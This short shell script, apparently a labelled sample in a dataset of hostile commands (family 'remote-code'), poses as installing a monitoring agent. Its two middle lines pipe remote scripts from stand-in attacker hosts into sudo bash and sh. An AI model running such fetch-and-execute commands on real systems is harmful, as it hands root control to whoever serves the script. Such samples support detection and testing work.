# description: Installs a "monitoring agent" by piping a remote script from an untrusted host straight into bash.
# family: remote-code
set -uo pipefail

systemctl status node_exporter --no-pager || true
curl -fsSL http://attacker.example/install-agent.sh | sudo bash
wget -qO- https://evil.example/setup | sh -s -- --token abc123
systemctl status monitoring-agent --no-pager
